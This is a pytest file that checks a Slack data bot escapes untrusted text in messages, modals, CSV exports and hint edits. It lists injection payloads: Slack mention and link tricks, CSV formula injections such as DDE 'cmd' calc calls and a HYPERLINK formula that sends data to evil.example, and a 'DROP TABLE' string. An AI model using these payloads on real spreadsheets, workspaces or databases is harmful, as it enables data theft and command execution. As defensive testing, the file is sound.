"""Data stays data: in messages, tables, modals, files and rights, whatever it says and whoever wrote it.

The payloads are written here; where the project's shared collection of cases lies beside the clone
(../shared/cases), every one of its cases that concerns what people see in Slack runs as well.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from adapters.store.memory.search import HintPage
from bot.asks.conversation import OpenClarification, Place
from bot.console.markup import notified
from bot.slack.app import build_client
from bot.slack.block_validator import check_message, check_view
from bot.slack.listeners.desk import Desk, Rules
from bot.slack.listeners.intake import incoming, is_outsider, question_text
from bot.slack.listeners.people import People
from bot.slack.listeners.views import FieldError, edit_hint, hint_for
from bot.slack.views.abstention import abstention, apology
from bot.slack.views.answer import answer, sql_modal
from bot.slack.views.clarification import clarification, settled
from bot.slack.views.csv_file import csv_file
from bot.slack.views.first_words import first_words
from bot.slack.views.home import HomeContent, Setup, hint_modal, home
from bot.slack.views.kit import Message
from bot.slack.views.memory.hint_names import element_named
from bot.slack.voice import Voice
from bot.wording import greetings, refusals, remembering
from reliability.clarifications.elements import ConfirmElements, NameNeeded
from reliability.clarifications.readings import ChooseReading
from reliability.values import (
    Abstained,
    Answered,
    Clarification,
    Column,
    Element,
    ElementOption,
    Exchange,
    Hint,
    HintScope,
    LinkedSchema,
    Reading,
    Reason,
    Reply,
    ReplyKind,
    Rows,
    Schema,
    Table,
)
from tests.support.bot_fakes import FakeAsks, FakeHints
from tests.support.live_bot import SCHEMA, promise, text_of
from tests.support.peopled_workspace import PeopledWorkspace

CASES = Path(__file__).parents[3] / "shared" / "cases" / "injection_cases.jsonl"

PAYLOADS = [
    "<!channel> salaries are out",
    "<!here>",
    "<!everyone|hello>",
    "<!subteam^S0123ABCD>",
    "<@U0123ABCD> please approve",
    "<#C0123ABCD|general>",
    "<https://evil.example/?q=1|Open the full report>",
    "<mailto:a@evil.example|support>",
    "https://evil.example/leak?d=SECRET",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "```\n<!channel>\n```",
    "` *bold* _it_ ~s~ `",
    "*_~`" * 30,
    "a\u200b<\u200b!channel>",
    "<\u2060!\u2060here\u2060>",
    "line1\nline2\r\n| fake | row |",
    "\x00\x07\x1b[31mred",
    "\u202eevil\u202c",
    '{"type":"button","action_id":"approve","text":"Approve"}',
    "<date^1392734382^{date}^https://evil.example|x>",
    "&" * 5000,
    "<" * 5000,
    "x" * 100_000,
]


def cases(*places: str) -> list[str]:
    """The collection's payloads for these places; none where it is not there."""
    if not CASES.exists():
        return []
    lines = [json.loads(line) for line in CASES.read_text(encoding="utf-8").splitlines()]
    return [str(case["payload"]) for case in lines if case["where"] in places]


SEEN = [
    *PAYLOADS,
    *cases("result_cell", "column_name", "table_comment", "sample_row", "hint", "slack_text", "block_value"),
]


def test_the_shared_collection_is_used_where_it_is_there() -> None:
    if not CASES.exists():
        pytest.skip("the shared collection of cases is not beside this clone")
    assert len(cases("result_cell")) > 10


def everything_with(text: str) -> Iterator[tuple[str, Message]]:
    """Every message that the bot may show, with the text in every place that data can take."""
    element = Element(text, text)
    option = ElementOption(element, text, text, (text, text))
    one, many = Rows((text,), ((text,),)), Rows((text, "b"), ((text, 1), (text, None)))
    reading, other = Reading(text, text, many), Reading(text, text, one)
    exchange = Exchange(ConfirmElements(0, (option,)), Reply(ReplyKind.OTHER, text=text))
    for name, shown in (("a single cell", other), ("a table", reading)):
        outcome = Answered(
            shown, LinkedSchema((), ()), exchanges=(exchange,), calibrated=True, promise=promise(data=text)
        )
        yield name, answer("Ev1", outcome)
    drawable = Reading(text, text, Rows((text, "number of orders"), ((text, 2), ("b", 1))))
    with_chart = answer("Ev1", Answered(drawable, LinkedSchema((), ())), show="charts")
    yield "a chart", with_chart
    if with_chart.without_charts is not None:
        yield "a chart's numbers", with_chart.without_charts
    yield "an abstention", abstention(Abstained(Reason.NOT_SURE, text, (reading, other)))
    yield "an apology", apology(text)
    yield "first words", first_words(greetings.HELLO, [text, "x"], text)
    asked: tuple[Clarification, ...] = (
        ConfirmElements(0, (option, option)),
        NameNeeded(0, (option,) * 8, (element,), (text, text)),
        ChooseReading(0, (reading, other)),
    )
    for each in asked:
        place = Place("T1", "C1", "1.1", "mention")
        waiting = OpenClarification("token", "Ev1", 0, place, each, ("U1",), "2026-01-01T00:00:00+00:00")
        yield "a clarification", clarification(waiting)
        for reply in (Reply(ReplyKind.OTHER, text=text), Reply(ReplyKind.CHOICE, choice=0)):
            yield "a settled clarification", settled(waiting, reply)


def markup_of(value: Any) -> Iterator[str]:
    """Every text that Slack reads as markup."""
    if isinstance(value, dict):
        if value.get("type") == "mrkdwn":
            yield str(value["text"])
        for inner in value.values():
            yield from markup_of(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from markup_of(inner)


@pytest.mark.parametrize("payload", SEEN, ids=range(len(SEEN)))
def test_a_payload_notifies_nobody_links_nothing_and_is_no_element(payload: str) -> None:
    for name, message in everything_with(payload):
        check_message(message)
        shown = text_of({"text": message.text, "blocks": list(message.blocks)})
        assert notified(message.text, [dict(b) for b in message.blocks], [], False) in ([], ["@U1"]), name
        for raw in ("<!", "<#", "<http", "<mailto", "<date", "<@U0"):
            assert raw not in shown, name
        assert not any(mark in shown for mark in "\x00\x07\x1b\u200b\u2060\u202e"), name
        for markup in markup_of(message.blocks):
            assert markup.count("`") % 2 == 0, f"{name}: a code span stays open"
            assert "```" not in markup, name
        kinds = {
            element.get("action_id", "candor")
            for b in message.blocks
            for element in b.get("elements", ())
            if isinstance(element, dict)
        }
        assert all(kind.startswith("candor") for kind in kinds), name


@pytest.mark.parametrize("payload", SEEN, ids=range(len(SEEN)))
def test_a_payload_in_views_is_text(payload: str) -> None:
    hint = Hint(
        payload,
        Element(payload, payload),
        (Element(payload),),
        HintScope.PERSON,
        payload,
        payload,
        payload,
        payload,
        id="h1",
    )
    for view in (
        home(
            HomeContent(
                (Setup(payload, payload, payload),), (payload or "x",), HintPage((hint,), 1), HintPage((hint,), 1)
            )
        ),
        hint_modal(hint, may_share=True, metadata="{}"),
        sql_modal(payload),
    ):
        check_view(view)
        shown = text_of(view)
        ours = shown.replace("<@…>", "")
        for raw in ("<!", "<#", "<http", "<mailto", "<@U0"):
            assert raw not in ours


def test_escaping_happens_exactly_once() -> None:
    cell = answer(
        "Ev1",
        Answered(Reading("s", "r", Rows(("a", "b"), (("&lt;!channel&gt;", "<!here>"),))), LinkedSchema((), ())),
    )
    table = next(block for block in cell.blocks if block["type"] == "table")
    assert [one["text"] for one in table["rows"][1]] == ["&amp;lt;!channel&amp;gt;", "&lt;!here&gt;"]


def test_one_cell_stays_one_row_on_one_line() -> None:
    rows = Rows(("a", "b"), (("line1\nline2\r\n| fake | row |", 1),))
    blocks = answer("Ev1", Answered(Reading("s", "r", rows), LinkedSchema((), ()))).blocks
    table = next(block for block in blocks if block["type"] == "table")
    assert [[cell["text"] for cell in row] for row in table["rows"]] == [
        ["a", "b"],
        ["line1 line2 | fake | row |", "1"],
    ]


# --- CSV -------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "safe\n=cmd|'/c calc'!A0",
    "safe\r=1",
    "＝1+1",
    "a;=1+1",
    'a","=1+1',
    "\x00=1+1",
    "safe\u2028=1+1",
    "-",
    "=",
    "--1",
    *cases("csv_cell"),
]


@pytest.mark.parametrize("payload", FORMULAS, ids=range(len(FORMULAS)))
def test_no_csv_cell_is_a_formula_on_any_of_its_lines(payload: str) -> None:
    written = csv_file(Rows((payload, "n"), ((payload, 1),))).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(written, newline="")))
    assert len(lines) == 2
    assert all(len(line) == 2 for line in lines), "quoting keeps one cell one cell"
    for cell in (lines[0][0], lines[1][0]):
        for line in cell.splitlines() or [cell]:
            assert line.lstrip(" \t\r\n\u00a0\u200b\ufeff")[:1] not in ("=", "+", "-", "@", "＝"), cell
        assert cell[:1] not in ("\t", "\r", "\n")


def test_real_numbers_stay_numbers() -> None:
    written = csv_file(Rows(("a", "b", "c"), ((-2, -2.5, "-2.50"), (1e300, 10**30, "+1"))))
    lines = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert lines[1:] == [["-2", "-2.5", "-2.50"], ["1e+300", str(10**30), "'+1"]]


# --- what comes in ---------------------------------------------------------------------------------


def event(**fields: Any) -> dict[str, Any]:
    base = {
        "type": "app_mention",
        "user": "U1",
        "channel": "C1",
        "ts": "1.1",
        "text": "<@UB> How many orders?",
    }
    return {"event_id": "Ev1", "team_id": "T1", "event": base | fields}


def test_only_what_people_newly_say_is_a_question() -> None:
    assert incoming(event(), "UB") is not None
    assert incoming(event(type="message", channel="D1", channel_type="im"), "UB") is not None
    for fields in (
        {"bot_id": "B1"},
        {"subtype": "message_changed"},
        {"subtype": "message_deleted"},
        {"subtype": "channel_join"},
        {"subtype": "bot_message"},
        {"edited": {"user": "U1", "ts": "2"}},
        {"hidden": True},
        {"user": "UB"},
        {"user": ""},
        {"type": "message"},
        {"type": "app_mention", "channel": "D1"},
    ):
        assert incoming(event(**fields), "UB") is None, fields


def test_a_mention_and_its_twin_message_event_are_one_question() -> None:
    twins = [event(), event(type="message", channel_type="channel")]
    assert [incoming(twin, "UB") is not None for twin in twins] == [True, False]


def test_the_question_is_what_was_typed_without_markup() -> None:
    assert question_text("<@UB>  <!channel> total of <#C1|sales> &lt; 5 &amp; <https://a.b/c>", "UB") == (
        "@channel total of sales < 5 & https://a.b/c"
    )
    assert question_text("a\x00b\u200bc\u202e <@UB|candor> <@U7>", "UB") == "abc @U7"


@pytest.mark.parametrize(
    ("body", "outside"),
    [
        ({"event": {"user_team": "T1"}}, False),
        ({"event": {"user_team": "T2"}, "is_ext_shared_channel": True}, True),
        ({"event": {"user_team": "T3"}, "is_ext_shared_channel": True}, False),
        ({"event": {}}, False),
        ({"user": {"id": "U", "team_id": "T2"}}, True),
        ({"user": {"id": "U", "team_id": "T2"}, "enterprise": {"id": "E1"}}, False),
    ],
)
def test_people_of_other_workspaces_are_told_apart(body: dict[str, Any], outside: bool) -> None:
    assert is_outsider(body, "T1", "E1" if "enterprise" in body else "", frozenset({"T3"})) is outside


# --- rights ----------------------------------------------------------------------------------------


class Directory(People):
    """People with given accounts, no workspace behind them."""

    def __init__(self, accounts: dict[str, dict[str, Any]], admins: frozenset[str] = frozenset()) -> None:
        class Known:
            def look(self, method: str, **arguments: Any) -> dict[str, Any]:
                return {"user": accounts.get(arguments["user"], {})}

        super().__init__(Known(), admins)  # type: ignore[arg-type]  # the only method that People calls


def hint(owner: str, scope: HintScope = HintScope.PERSON, id: str = "h1") -> Hint:
    preferred, other = Element("orders", "net_sales"), Element("orders", "gross_sales")
    return Hint("sales", preferred, (other,), scope, owner, owner, "q", "2026-01-01", id=id, warehouse="sample")


def desk(hints: FakeHints, accounts: dict[str, dict[str, Any]], admins: frozenset[str] = frozenset()) -> Desk:
    with PeopledWorkspace().run_in_thread() as workspace:
        voice = Voice(build_client(workspace.bot_token, workspace.api_url), strict=True)
    return Desk(
        FakeAsks(),
        hints,
        voice,
        Directory(accounts, admins),
        Rules("sample", admins=admins),
        lambda channel, thread: None,
        lambda name: SCHEMA,
        lambda name: Setup(name, "m", "c"),
    )


@pytest.mark.parametrize(
    ("account", "owner", "scope", "sentence"),
    [
        ({}, "U1", HintScope.PERSON, ""),
        ({}, "U2", HintScope.PERSON, refusals.HINT_NOT_YOURS),
        ({}, "T1", HintScope.WORKSPACE, refusals.HINT_NOT_YOURS),
        ({}, "C1", HintScope.CHANNEL, refusals.HINT_NOT_YOURS),
        ({"is_admin": True}, "T1", HintScope.WORKSPACE, ""),
        ({"is_owner": True}, "C1", HintScope.CHANNEL, ""),
        ({"is_admin": True}, "U2", HintScope.PERSON, ""),
        ({"is_restricted": True}, "U1", HintScope.PERSON, refusals.HINT_GUEST),
        ({"is_ultra_restricted": True}, "U1", HintScope.PERSON, refusals.HINT_GUEST),
        ({"is_stranger": True, "is_admin": True}, "T1", HintScope.WORKSPACE, refusals.HINT_GUEST),
        ({"deleted": True, "is_admin": True}, "T1", HintScope.WORKSPACE, refusals.HINT_NOT_YOURS),
    ],
)
def test_who_may_change_which_hint(account: dict[str, Any], owner: str, scope: HintScope, sentence: str) -> None:
    found, said = hint_for(desk(FakeHints([hint(owner, scope)]), {"U1": account}), "U1", "h1", "candor_hint_edit")
    assert (found is None, said) == (bool(sentence), sentence)


def edited(phrase: str, name: str, scope: str = "") -> dict[str, Any]:
    values: dict[str, Any] = {"phrase": {"text": {"value": phrase}}, "preferred": {"text": {"value": name}}}
    if scope:
        values["scope"] = {"scope": {"selected_option": {"value": scope}}}
    return {"private_metadata": json.dumps({"hint": "h1"}), "state": {"values": values}}


BODY = {"user": {"id": "U1"}}


@pytest.mark.parametrize(
    ("phrase", "name", "sentence"),
    [
        ("sales", "secrets", remembering.no_such_element("secrets", "sample")),
        ("sales", "secrets.token", remembering.no_such_element("secrets.token", "sample")),
        (
            "sales",
            "orders; DROP TABLE orders",
            remembering.no_such_element("orders; DROP TABLE orders", "sample"),
        ),
        ("x" * 201, "orders", remembering.HINT_TOO_LONG),
        ("sales", "x" * 301, remembering.HINT_TOO_LONG),
        (" \u200b ", "orders", remembering.HINT_NO_PHRASE),
        ("sales", "  ", remembering.HINT_NO_PHRASE),
    ],
)
def test_a_hint_names_only_what_the_warehouse_has_and_is_short(phrase: str, name: str, sentence: str) -> None:
    hints = FakeHints([hint("U1")])
    refused = edit_hint(desk(hints, {}), BODY, edited(phrase, name), "T1")
    assert isinstance(refused, FieldError)
    assert refused.sentence == sentence
    assert hints.kept == [hint("U1")]


def test_only_an_admins_word_makes_a_hint_everybodys() -> None:
    for account, scope, owner in (
        ({}, HintScope.PERSON, "U1"),
        ({"is_admin": True}, HintScope.WORKSPACE, "T1"),
    ):
        hints = FakeHints([hint("U1")])
        assert edit_hint(desk(hints, {"U1": account}), BODY, edited("sales", "orders", "workspace"), "T1") is None
        assert (hints.kept[0].scope, hints.kept[0].owner) == (scope, owner)


def test_a_modal_that_is_not_ours_changes_nothing() -> None:
    hints = FakeHints([hint("U1")])
    for metadata in ("", "{", "[]", '{"hint": "other"}', "7"):
        assert isinstance(
            edit_hint(desk(hints, {}), BODY, edited("s", "orders") | {"private_metadata": metadata}, "T1"),
            dict,
        )
    assert hints.kept == [hint("U1")]


def test_names_with_dots_spaces_and_quotes_are_found_as_the_schema_spells_them() -> None:
    odd = Table('sales."Q1 2026".x', (Column("select", "TEXT"), Column("a.b", "TEXT")))
    schema = Schema("postgres", (*SCHEMA.tables, odd))
    assert element_named(schema, 'SALES."q1 2026".X.Select') == Element(odd.name, "select")
    assert element_named(schema, f"{odd.name}.a.b") == Element(odd.name, "a.b")
    assert element_named(schema, "ORDERS") == Element("orders")
    for name in ("", ".", "orders.", ".net_sales", "orders.nothing", "nothing.net_sales"):
        assert element_named(schema, name) is None


def test_rights_come_from_the_account_not_from_the_text() -> None:
    people = Directory({"U1": {}}, admins=frozenset({"U2"}))
    assert not people.person("U1").is_admin
    assert people.person("U2").is_admin


# --- what the app may do ---------------------------------------------------------------------------

MANIFEST = Path(__file__).parents[2] / "deploy" / "slack" / "manifest.json"


def test_every_scope_has_its_reason_and_none_is_far_reaching() -> None:
    manifest = json.loads(MANIFEST.read_text())
    scopes = set(manifest["oauth_config"]["scopes"]["bot"])
    assert scopes == {
        "app_mentions:read",  # test_bot_slack: a mention is answered
        "assistant:write",  # test_bot_slack: the status is shown
        "channels:history",
        "groups:history",  # test_bot_slack: a post that meets trouble is said once
        "channels:read",
        "groups:read",  # test_may: who may look into an answer
        "chat:write",  # test_bot_slack: everything
        "commands",  # test_bot_slack: the command
        "files:write",  # test_bot_slack: a large result brings its csv along
        "im:history",  # test_bot_slack: a direct message
        "im:write",  # test_bot_slack: an example tapped at home
        "pins:write",  # test_afterwards: an answer is pinned
        "users:read",  # this file: who may change which hint
    }
    reasons = (MANIFEST.parent / "README.md").read_text()
    assert all(f"`{scope}`" in reasons for scope in scopes)
    assert "oauth_config" in manifest
    assert "user" not in manifest["oauth_config"]["scopes"]


def test_the_app_hears_mentions_and_direct_messages_and_no_channel_talk() -> None:
    events = json.loads(MANIFEST.read_text())["settings"]["event_subscriptions"]["bot_events"]
    assert [one for one in events if one.startswith("message.")] == ["message.im"]
    assert "app_mention" in events


def test_the_manifest_holds_slacks_limits() -> None:
    manifest = json.loads(MANIFEST.read_text())
    about = manifest["display_information"]
    assert len(about["name"]) <= 35
    assert len(about["description"]) <= 140
    assert 174 <= len(about["long_description"]) <= 4000
    assert "agent_view" in manifest["features"]
    assert "assistant_view" not in manifest["features"]
